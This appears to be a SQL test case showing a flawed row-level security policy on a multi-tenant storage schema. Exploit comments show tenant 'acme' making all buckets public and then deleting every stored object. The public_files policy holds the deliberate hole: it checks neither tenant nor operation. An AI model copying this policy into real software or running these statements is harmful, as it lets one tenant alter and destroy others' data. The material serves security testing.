-- Tenant acme changes and deletes files in the public buckets of others.
-- about: objects
-- as: ho_storage_api
-- exploit: SET storage.tenant = 'acme';
-- exploit: UPDATE storage.buckets SET public = true;
-- exploit: DELETE FROM storage.objects;
-- shows: DELETE 3
CREATE POLICY public_files ON storage.objects USING (EXISTS (
  SELECT FROM storage.buckets b WHERE b.public AND b.name = objects.bucket));
